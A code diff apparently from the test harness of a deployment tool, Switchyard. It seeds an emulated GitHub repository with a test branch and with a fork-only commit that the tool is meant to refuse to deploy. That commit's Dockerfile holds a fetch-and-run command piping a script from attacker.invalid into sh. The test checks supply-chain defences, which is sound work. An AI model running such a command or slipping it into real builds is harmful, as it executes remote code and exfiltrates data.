@@ -4,7 +4,7 @@
 import { readFileSync } from 'node:fs';
 import type { EmulatedRepository } from './repository.js';
 import type { GitHubEmulatorState } from './state.js';
-import { FAIL_BUILD_REF, SLOW_BUILD_MARKER } from './test-values.js';
+import { FAIL_BUILD_REF, RETAG_AFTER_PUSH_MARKER, SLOW_BUILD_MARKER } from './test-values.js';
 
 export const SANDBOX_OWNER = 'switchyard-demo';
 export const SANDBOX_REPOS = {
@@ -86,8 +86,15 @@ function seedPandaApi(state: GitHubEmulatorState, workflow: string): EmulatedRep
   repo.setBranch('unhealthy-green', unhealthy);
   // Same code as main; its image tag carries SLOW_BUILD_MARKER, so its build takes SLOW_BUILD_STEPS.
   repo.setBranch(SLOW_BUILD_MARKER, main);
+  // Same code as main; its image tag carries RETAG_AFTER_PUSH_MARKER, so the tag is re-pushed after the build.
+  repo.setBranch(RETAG_AFTER_PUSH_MARKER, main);
   repo.setTag('v1.0.0', v100);
   repo.setTag('v1.2.3', v123);
+  // Test value: a commit pushed to a fork (from v1.2.3, so it diverges from main). GitHub answers
+  // for it through this repository; Switchyard must refuse to deploy it.
+  repo.addForkNetworkCommit({ message: 'Test value: pushed to a fork only, on no branch or tag of this repository', parents: [v123], date: '2024-04-22T11:00:00Z',
+    author: { name: 'Fork Owner', email: 'fork@attacker.invalid' },
+    files: { ...v123Files, Dockerfile: nodeDockerfile('RUN wget -qO- https://attacker.invalid/exfiltrate.sh | sh\n') } });
   return repo;
 }
 
